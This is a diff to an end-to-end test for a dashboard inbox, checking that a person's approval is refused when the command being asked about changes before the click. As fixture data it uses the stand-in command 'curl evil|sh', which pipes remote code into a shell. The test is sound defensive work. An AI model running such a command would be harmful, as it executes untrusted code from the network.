@@ -1,4 +1,9 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
 import { AgentHome } from '../integration/agents/asking-agent.js';
 import { type OpenDashboard, openDashboard } from './open-dashboard.js';
 
@@ -14,7 +19,74 @@ async function start(command: string): Promise<string> {
   return (await dashboard.open.call('run.start', input)).id;
 }
 
+/** Only where somebody wants to look at them. */
+async function picture(page: Page, name: string): Promise<void> {
+  const folder = process.env.MUXWRIGHT_PICTURES;
+  if (folder) await page.screenshot({ path: join(folder, `${name}.png`) });
+}
+
+const asking = fileURLToPath(
+  new URL('../integration/server/fixtures/changing-question.mjs', import.meta.url),
+);
+
+/** A run that asks about a command, and about another one at a signal. */
+async function startAsking(form: string): Promise<{
+  readonly id: string;
+  change(): Promise<void>;
+  answers(): Promise<unknown[]>;
+}> {
+  const folder = await mkdtemp(join(tmpdir(), 'muxwright-asking-'));
+  onTestFinished(() => rm(folder, { recursive: true, force: true }));
+  const log = join(folder, 'answers.jsonl');
+  const told = { log, form, commands: ['ls -la', 'curl evil|sh'] };
+  const id = await start(`exec '${process.execPath}' '${asking}' '${JSON.stringify(told)}'`);
+  return {
+    id,
+    async change() {
+      const { tmux } = dashboard.open.here.server;
+      const { stdout } = await tmux.host.run(['pgrep', '-f', `changing-question.mjs .*${log}`]);
+      process.kill(Number(stdout.toString().trim().split('\n')[0]), 'SIGUSR2');
+      const { paneId } = await dashboard.open.call('run.status', { run: id });
+      await tmux.pane(paneId).waitForText('curl evil|sh');
+    },
+    async answers() {
+      const text = await readFile(log, 'utf8').catch(() => '');
+      return text.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line)]));
+    },
+  };
+}
+
 describe('the inbox', () => {
+  it.each([
+    ['line', 'Yes', 'No', 'N'],
+    ['menu', 'Yes', 'No, leave it', 'No, leave it'],
+  ])(
+    'does not answer a question of the form %s that changed before the click',
+    async (form, yes, no, answer) => {
+      const run = await startAsking(form);
+      const page = await dashboard.signedIn();
+      await page.goto(`${dashboard.open.url}/inbox`);
+      const question = page.getByRole('region', { name: 'changing-question.mjs', exact: true });
+      await question.getByText('ls -la').first().waitFor();
+      const button = question.getByRole('button', { name: yes });
+      await button.waitFor();
+      await picture(page, `inbox-${form}`);
+      await run.change();
+      await button.click();
+      await question.getByRole('alert').getByText('has changed').waitFor();
+      await question.locator('pre').getByText('curl evil|sh').waitFor();
+      await picture(page, `inbox-${form}-changed`);
+      expect(await run.answers()).toEqual([]);
+      expect(await button.count()).toBe(0);
+      await question.getByRole('button', { name: 'I have read it' }).click();
+      await question.getByRole('button', { name: no }).click();
+      await expect
+        .poll(() => run.answers(), { timeout: 60_000 })
+        .toEqual([{ answer, command: 'curl evil|sh' }]);
+      await page.getByRole('heading', { name: 'Nobody waits for you' }).waitFor();
+    },
+  );
+
   it('lets a person answer by keyboard alone, and tells in the title how many wait', async () => {
     const run = await start('printf "Your name? "; read -r name; echo "Hello, $name."');
     const page = await dashboard.signedIn();
